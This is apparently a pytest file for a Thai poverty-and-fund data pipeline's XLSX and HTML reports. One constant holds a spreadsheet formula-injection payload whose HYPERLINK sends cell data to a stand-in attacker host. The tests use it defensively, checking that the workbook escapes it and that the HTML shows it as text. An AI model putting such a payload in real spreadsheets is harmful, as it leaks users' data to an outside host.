"""Reports: XLSX with Thai headers and safe cells, HTML whose SVG charts render in headless Chromium."""

import hashlib
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook
from test_marts import KEY, POVERTY, ROSTER, build_small_warehouse

from flows.marts import build_marts
from flows.reports import HTML_NAME, XLSX_NAME, write_reports
from flows.warehouse import connect
from schemas.marts import MART_TITLES_TH, THAI_HEADERS

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


@pytest.fixture(scope="module")
def reports(tmp_path_factory) -> Path:
    """Reports from a warehouse whose second fund is named like a formula."""
    root = tmp_path_factory.mktemp("reports")
    roster = [r if r[3] != ROSTER[-1][3] else (*r[:3], HOSTILE, *r[4:]) for r in ROSTER]
    with connect(root / "saphan.duckdb") as con:
        build_small_warehouse(con, POVERTY, roster)
        build_marts(con, KEY)
        write_reports(con, root / "one")
        write_reports(con, root / "two")
    return root


def test_reports_are_byte_identical_run_to_run(reports):
    for name in (XLSX_NAME, HTML_NAME):
        one, two = (hashlib.sha256((reports / d / name).read_bytes()).hexdigest() for d in ("one", "two"))
        assert one == two, name


def test_workbook_has_a_sheet_per_mart_and_per_subdistrict_with_thai_headers(reports):
    wb = CalamineWorkbook.from_path(str(reports / "one" / XLSX_NAME))
    names = wb.sheet_names
    for title in MART_TITLES_TH.values():
        assert title in names
    outreach = [n for n in names if re.match(r"\d{6} ", n)]
    assert outreach == ["310101 ในเมือง"]  # the only funded subdistrict with unreached poor people
    coverage = wb.get_sheet_by_name(MART_TITLES_TH["coverage"]).to_python()
    assert coverage[0][:3] == [THAI_HEADERS["level"], THAI_HEADERS["province_code"], THAI_HEADERS["district_code"]]
    sheet = wb.get_sheet_by_name("310101 ในเมือง").to_python()
    assert "ตำบลรหัส 310101" in sheet[0][0] and "(2 คน)" in sheet[0][0]
    assert sheet[1][:3] == ["หมู่ที่", "รหัสประจำบ้าน", "รหัสแทนตัวบุคคล"]
    assert [r[1] for r in sheet[2:]] == ["31010100010", "31010100010"]


def test_formula_like_text_is_neutralised_in_the_workbook(reports):
    path = reports / "one" / XLSX_NAME
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in s or "<f " in s for s in sheets), "a cell was written as a formula"
    wb = CalamineWorkbook.from_path(str(path))
    funds = wb.get_sheet_by_name(MART_TITLES_TH["fund_summary"]).to_python()
    fund_col = funds[0].index(THAI_HEADERS["fund"])
    values = [r[fund_col] for r in funds[1:]]
    assert "'" + HOSTILE in values and HOSTILE not in values


def test_html_is_self_contained(reports):
    text = (reports / "one" / HTML_NAME).read_text(encoding="utf-8")
    assert "default-src 'none'" in text
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", text), "the report must not load anything"
    assert "<script" not in text
    assert "&quot;http://evil.example" in text or "&amp;A1" in text  # the hostile fund name is escaped text
    assert HOSTILE not in text


def _chromium(args: list[str], tmp_path: Path) -> subprocess.CompletedProcess[str]:
    assert CHROMIUM
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", "--no-first-run",
             f"--user-data-dir={tmp_path / 'profile'}"]
    return subprocess.run([CHROMIUM, *flags, *args], capture_output=True, text=True, timeout=120, check=False)


@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (Debian package `chromium`)")
def test_html_charts_render_in_headless_chromium(reports, tmp_path):
    page = (reports / "one" / HTML_NAME).as_uri()
    done = _chromium(["--dump-dom", page], tmp_path)
    assert done.returncode == 0, done.stderr[-2000:]
    dom = done.stdout
    for chart, bars in (("chart-dimension", 6), ("chart-subdistrict", 3)):
        match = re.search(rf'<svg[^>]*id="{chart}".*?</svg>', dom, re.S)
        assert match, f"{chart} missing from the rendered DOM"
        assert len(re.findall(r'<rect class="bar"', match.group(0))) == bars
        assert len(re.findall(r'<rect class="track"', match.group(0))) == bars
    assert 'data-part="2" data-whole="4"' in dom  # ในเมือง: 2 of 4 poor people are members
    shot = tmp_path / "report.png"
    done = _chromium([f"--screenshot={shot}", "--window-size=1200,1600", page], tmp_path)
    assert done.returncode == 0 and shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert shot.stat().st_size > 10_000  # not a blank page


def test_big_person_sheets_show_their_first_rows_and_say_where_the_rest_is(tmp_path, monkeypatch):
    import flows.reports as reports_module

    monkeypatch.setattr(reports_module, "PERSON_SHEET_MAX_ROWS", 1)
    with connect(tmp_path / "saphan.duckdb") as con:
        build_small_warehouse(con, POVERTY, ROSTER)
        build_marts(con, KEY)
        members = con.execute("select count(*) from member_poverty").fetchall()[0][0]
        write_reports(con, tmp_path)
    assert members > 1
    sheet = CalamineWorkbook.from_path(str(tmp_path / XLSX_NAME)).get_sheet_by_name(
        MART_TITLES_TH["member_poverty"]).to_python()
    assert f"of {members:,} rows" in sheet[0][0] and "marts/member_poverty/" in sheet[0][0]
    assert len([r for r in sheet[2:] if any(v not in ("", None) for v in r)]) == 1
    outreach = CalamineWorkbook.from_path(str(tmp_path / XLSX_NAME)).get_sheet_by_name("310101 ในเมือง").to_python()
    assert len(outreach) == 4  # title, header and both people: outreach sheets are never cut
